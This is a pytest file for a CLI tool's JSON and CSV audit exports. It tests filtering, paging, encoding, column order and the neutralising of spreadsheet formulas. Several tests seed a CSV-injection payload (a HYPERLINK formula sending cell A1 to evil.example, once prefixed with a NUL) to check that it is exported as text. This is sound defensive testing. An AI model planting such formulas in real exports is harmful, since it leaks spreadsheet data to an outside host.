"""`magsag data query --format json|csv`, the audit exports: what a row holds, text a spreadsheet would run made
text, UTF-8 whatever the locale, and every matching run unless --limit cuts it, which a note then says."""

from __future__ import annotations

import csv
import io
import json
import time
from decimal import Decimal
from pathlib import Path

import anyio
import pytest

from magsag_mcp.cli import main
from magsag_mcp.ledger import Ledger
from magsag_mcp.records import AttemptRecord, RunRecord
from tests.conftest import CATALOG, main_json


def test_query_json_filters_by_agent(ledger_db, capsys):
    assert main(["data", "query", "--agent", "alice", "--since", "7d", "--format", "json"]) == 0
    runs = json.loads(capsys.readouterr().out)
    assert [r["run_id"] for r in runs] == ["r-priced"]
    assert runs[0]["cost_usd"] == "0.0035" and [a["outcome"] for a in runs[0]["attempts"]] == ["error", "ok"]


def test_query_csv_parses_with_the_csv_module(ledger_db, capsys):
    assert main(["data", "query", "--format", "csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert {r["run_id"] for r in rows} == {"r-priced", "r-unpriced", "r-old"}
    assert len([r for r in rows if r["run_id"] == "r-priced"]) == 2  # one row per attempt


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_made_text(tmp_path, monkeypatch, capsys):
    # A provider's error body, an agent's name or a run id reach the export; opened in a spreadsheet,
    # "=HYPERLINK(...)" in one of them would run (OWASP "CSV injection").
    db = tmp_path / "formula.db"
    monkeypatch.setenv("MAGSAG_DB", str(db))
    monkeypatch.setenv("MAGSAG_CATALOG", str(CATALOG))
    now = time.time()
    evil = '=HYPERLINK("http://evil.example/?q="&A1,"details")'

    async def fill() -> None:
        async with Ledger(db) as ledger:
            run = RunRecord("@run-1", "+agent", "skill.analysis", now)
            await ledger.record_call(
                run,
                [
                    AttemptRecord(
                        "@run-1",
                        now,
                        "openai",
                        "-gpt",
                        "skill.analysis",
                        "+agent",
                        "error",
                        0,
                        1,
                        error_class="server_error",
                        error_message=evil,
                        cost_usd=Decimal(0),
                    )
                ],
            )

    anyio.run(fill)
    assert main(["data", "query", "--format", "csv"]) == 0
    [row] = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert row["error_message"] == "'" + evil
    assert (row["run_id"], row["agent"], row["model"]) == ("'@run-1", "'+agent", "'-gpt")
    # numbers and safe text are left as they are
    assert row["provider"] == "openai" and row["input_tokens"] == "0" and row["cost_usd"] == "0"


def test_csv_row_of_a_run_without_attempts_says_when_and_why(cli_env_with_a_bad_call, capsys):
    # an invalid payload never reaches a model: the run's one CSV row carries its time and its error
    assert main(["data", "query", "--format", "csv"]) == 0
    [row] = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert (row["run_status"], row["error_class"], row["provider"]) == ("error", "invalid_payload", "")
    assert row["time"] and row["time"] == main_json(["data", "query", "--format", "json"], capsys)[0]["started_at"]


@pytest.fixture
def cli_env_with_a_bad_call(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys) -> Path:
    monkeypatch.setenv("MAGSAG_DB", str(tmp_path / "bad.db"))
    monkeypatch.setenv("MAGSAG_CATALOG", str(CATALOG))
    assert main(["invoke", "skill.analysis", "--payload", "{}"]) == 2
    capsys.readouterr()
    return tmp_path


def test_a_vendors_service_tier_is_made_text_in_the_csv_too(tmp_path, monkeypatch, capsys):
    # service_tier is what the answering server says (a compat or local server the caller may name): it
    # reached the export as it came, a formula included
    db = tmp_path / "tier.db"
    monkeypatch.setenv("MAGSAG_DB", str(db))
    now = time.time()
    tier = '=HYPERLINK("http://evil.example/?q="&A1,"priority")'

    async def fill() -> None:
        async with Ledger(db) as ledger:
            run = RunRecord("run-1", "agent", "skill.analysis", now)
            attempt = AttemptRecord(
                "run-1", now, "local", "llama3", "skill.analysis", "agent", "ok", 0, 1, service_tier=tier
            )
            await ledger.record_call(run, [attempt])

    anyio.run(fill)
    assert main(["data", "query", "--format", "csv"]) == 0
    [row] = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert row["service_tier"] == "'" + tier


def test_a_cell_starting_with_a_nul_is_made_text_too(tmp_path, monkeypatch, capsys):
    # OWASP ASVS 5.0 (1.2.10) names the NUL beside = + - @ and the tab: a vendor's error text or service tier
    # that began with one before a formula reached the export as it came
    db = tmp_path / "nul.db"
    monkeypatch.setenv("MAGSAG_DB", str(db))
    now = time.time()
    evil = '\x00=HYPERLINK("http://evil.example/?q="&A1,"details")'

    async def fill() -> None:
        async with Ledger(db) as ledger:
            run = RunRecord("run-1", "agent", "skill.analysis", now)
            attempt = AttemptRecord(
                "run-1", now, "local", "llama3", "skill.analysis", "agent", "error", 0, 1,
                error_class="server_error", error_message=evil, service_tier=evil,
            )  # fmt: skip
            await ledger.record_call(run, [attempt])

    anyio.run(fill)
    assert main(["data", "query", "--format", "csv"]) == 0
    [row] = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert (row["error_message"], row["service_tier"]) == ("'" + evil, "'" + evil)
    # the JSON export keeps what was recorded
    [run] = main_json(["data", "query", "--format", "json"], capsys)
    assert run["attempts"][0]["error_message"] == evil


class _LocaleStdout(io.TextIOWrapper):
    """stdout redirected to a file where the locale's encoding is not UTF-8: Windows' cp1252 (or an ASCII
    CI locale), with Windows' translation of every "\\n" written into "\\r\\n"."""

    def __init__(self) -> None:
        super().__init__(io.BytesIO(), encoding="cp1252", newline="\r\n")

    def written(self) -> bytes:
        self.flush()
        return self.buffer.getvalue()  # type: ignore[attr-defined]


def test_exports_to_a_non_utf8_stdout_round_trip_exactly(tmp_path, monkeypatch):
    """`magsag data query --format csv > audit.csv` where stdout's encoding is not UTF-8 (Windows) died
    with a UnicodeEncodeError traceback at the first name or error text it could not encode, and its
    newline translation turned an error's "\\r\\n" into "\\r\\r\\n". Exports are UTF-8 and exact."""
    import sys

    db = tmp_path / "utf8.db"
    monkeypatch.setenv("MAGSAG_DB", str(db))
    now = time.time()
    error = "shard 7 überlastet 🙂\r\nretry: ☃\nend"
    cost = "12345.678901234567"

    async def fill() -> None:
        async with Ledger(db) as ledger:
            run = RunRecord("r-日本", "agént", "skill.analysis", now)
            target = (now, "openai", "gpt-4o", "skill.analysis", "agént")
            failed = AttemptRecord("r-日本", *target, "error", 0, 1, error_class="server_error", error_message=error)
            ok = AttemptRecord("r-日本", *target, "ok", 0, 2, cost_usd=Decimal(cost))
            await ledger.record_call(run, [failed, ok])

    anyio.run(fill)
    out = _LocaleStdout()
    monkeypatch.setattr(sys, "stdout", out)
    assert main(["data", "query", "--format", "csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(out.written().decode("utf-8"), newline="")))
    assert [(r["run_id"], r["agent"], r["error_message"], r["cost_usd"]) for r in rows] == [
        ("r-日本", "agént", error, ""),  # an unknown cost stays empty, not 0
        ("r-日本", "agént", "", cost),
    ]
    out = _LocaleStdout()
    monkeypatch.setattr(sys, "stdout", out)
    assert main(["data", "query", "--format", "json"]) == 0
    [run] = json.loads(out.written().decode("utf-8"))
    assert [(a["error_message"], a["cost_usd"]) for a in run["attempts"]] == [(error, None), (None, cost)]
    out = _LocaleStdout()
    monkeypatch.setattr(sys, "stdout", out)
    assert main(["flow", "summarize"]) == 0
    summary = json.loads(out.written().decode("utf-8"))
    assert summary["by_agent"]["agént"]["known_cost_usd"] == cost


def test_an_export_cut_at_its_limit_says_so_and_how_to_get_the_rest(ledger_db, capsys):
    """`magsag data query --agent X --format csv > audit.csv` (the guide's compliance export) wrote the 50
    newest runs and said nothing of the rest: an audit file that looked whole. stdout stays the data; a
    note on stderr says more runs match and how to page on."""
    assert main(["data", "query", "--format", "csv", "--limit", "2"]) == 0
    out, err = capsys.readouterr()
    assert {r["run_id"] for r in csv.DictReader(io.StringIO(out))} == {"r-priced", "r-unpriced"}
    assert "2 runs shown (newest first) and more match" in err and "--offset 2" in err
    assert main(["data", "query", "--format", "json", "--limit", "2", "--offset", "2"]) == 0
    out, err = capsys.readouterr()
    assert [r["run_id"] for r in json.loads(out)] == ["r-old"] and err == ""
    assert main(["data", "query", "--format", "csv", "--limit", "3"]) == 0  # exactly all of them
    assert capsys.readouterr().err == ""


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_the_guides_compliance_export_holds_every_matching_run(ledger_db, capsys, monkeypatch, fmt):
    """`magsag data query --agent X --format csv > audit.csv`, as the guide writes it (no --limit), wrote the 50
    newest runs and a note on stderr: an audit file missing the rest. An export without --limit now holds every
    matching run, read a page at a time (one run a page here), with the same text a single page would have."""
    from magsag_mcp.cli import data

    assert main(["data", "query", "--format", fmt, "--limit", "10000"]) == 0
    whole, err = capsys.readouterr()
    assert err == "" and whole.count("r-") >= 3
    monkeypatch.setattr(data, "EXPORT_PAGE", 1)
    assert main(["data", "query", "--format", fmt]) == 0
    paged, err = capsys.readouterr()
    assert paged == whole and err == ""  # the same bytes, and no "more match" note
    assert main(["data", "query", "--format", fmt, "--offset", "1"]) == 0  # --offset still skips the newest
    skipped = capsys.readouterr().out
    if fmt == "json":
        assert json.loads(skipped) == json.loads(whole)[1:]
    else:
        rows = [r["run_id"] for r in csv.DictReader(io.StringIO(whole))]
        assert [r["run_id"] for r in csv.DictReader(io.StringIO(skipped))] == [r for r in rows if r != rows[0]]
    assert main(["data", "query", "--format", fmt, "--agent", "nobody-at-all"]) == 0
    out, err = capsys.readouterr()
    assert (json.loads(out) == [] if fmt == "json" else out.count("\n") == 1) and "no run" in err


def test_an_export_without_limit_is_not_cut_at_the_tables_page(ledger_db, capsys):
    # 60 more runs than the fixture's: past the table's page of 50, the export had stopped there
    async def fill() -> None:
        async with Ledger(ledger_db) as ledger:
            for i in range(60):
                run = RunRecord(f"r-bulk-{i:02}", "carol", "skill.analysis", time.time() - 1000 + i)
                at = run.started_at
                await ledger.record_call(
                    run, [AttemptRecord(run.run_id, at, "fake", "echo", run.skill, "carol", "ok", 0, 1)]
                )

    anyio.run(fill)
    assert main(["data", "query", "--agent", "carol", "--format", "csv"]) == 0
    out, err = capsys.readouterr()
    assert len({r["run_id"] for r in csv.DictReader(io.StringIO(out))}) == 60 and err == ""
    assert len(main_json(["data", "query", "--agent", "carol", "--format", "json"], capsys)) == 60
    assert main(["data", "query", "--agent", "carol", "--format", "table"]) == 0  # the table shows a page
    out, err = capsys.readouterr()
    assert out.count("r-bulk-") == 50 and "50 runs shown (newest first) and more match" in err


def test_csv_has_the_runs_parent_and_the_attempts_warnings_as_json_has_them(tmp_path, monkeypatch, capsys):
    """Before: the CSV export had neither, so an audit in a spreadsheet could not tell a delegated run from
    its parent, nor see that an answer was truncated or priced from a guess. They come last: the columns
    before them are where they were."""
    db = tmp_path / "warnings.db"
    monkeypatch.setenv("MAGSAG_DB", str(db))
    monkeypatch.setenv("MAGSAG_CATALOG", str(CATALOG))
    now = time.time()
    warnings = [
        'finish_reason "length", the answer, was cut',
        "line one\nline two, with a comma",
        "=SUM(A1) \"quoted\", and 'single'",
        "ünïcode \u2028 separator",
    ]

    async def fill() -> None:
        async with Ledger(db) as ledger:
            parent = RunRecord("parent", "a", "skill.analysis", now - 2)
            await ledger.record_call(
                parent, [AttemptRecord("parent", now - 2, "openai", "gpt-4o", "skill.analysis", "a", "ok", 0, 1)]
            )
            child = RunRecord("child", "a", "skill.analysis", now - 1, parent_run_id="parent")
            attempt = AttemptRecord("child", now - 1, "openai", "gpt-4o", "skill.analysis", "a", "ok", 0, 1)
            attempt.warnings = warnings
            await ledger.record_call(child, [attempt])
            await ledger.record_call(RunRecord("lone", "a", "skill.analysis", now, status="error"), [])

    anyio.run(fill)
    assert main(["data", "query", "--format", "json"]) == 0
    exported = {r["run_id"]: r for r in json.loads(capsys.readouterr().out)}
    assert main(["data", "query", "--format", "csv"]) == 0
    text = capsys.readouterr().out
    reader = csv.DictReader(io.StringIO(text))
    rows = {r["run_id"]: r for r in reader}
    old_columns = [
        "run_id", "agent", "skill", "run_status", "time", "provider", "model", "outcome", "error_class",
        "error_message", "input_tokens", "output_tokens", "cached_tokens", "cache_write_tokens",
        "reasoning_tokens", "total_tokens", "cache_write_1h_tokens", "input_audio_tokens", "output_audio_tokens",
        "service_tier", "cost_usd", "cost_bound_usd", "price_source", "latency_ms", "attempt_number",
        "fallback_position",
    ]  # fmt: skip
    later = ["parent_run_id", "warnings", "served_model", "data_classes", "endpoint"]
    # (0030's parts of a bill appended after them: the earlier columns' positions hold)
    parts = ["output_image_tokens", "inference_geo", "server_tool_uses"]
    # (and 0033's cache writes of a time to live their answer did not say, after those)
    # (and 0036's cache writes a split by time to live counted past their total, then 0037's paused turn's links)
    assert reader.fieldnames == [
        *old_columns, *later, *parts, "cache_write_ttl_unsaid_tokens", "cache_write_split_past_tokens",
        "paused_id", "continues_paused_id",
    ]  # fmt: skip
    assert rows["child"]["parent_run_id"] == exported["child"]["parent_run_id"] == "parent"
    assert rows["parent"]["parent_run_id"] == "" and rows["lone"]["parent_run_id"] == ""
    assert json.loads(rows["child"]["warnings"]) == exported["child"]["attempts"][0]["warnings"] == warnings
    assert json.loads(rows["parent"]["warnings"]) == [] and json.loads(rows["lone"]["warnings"]) == []
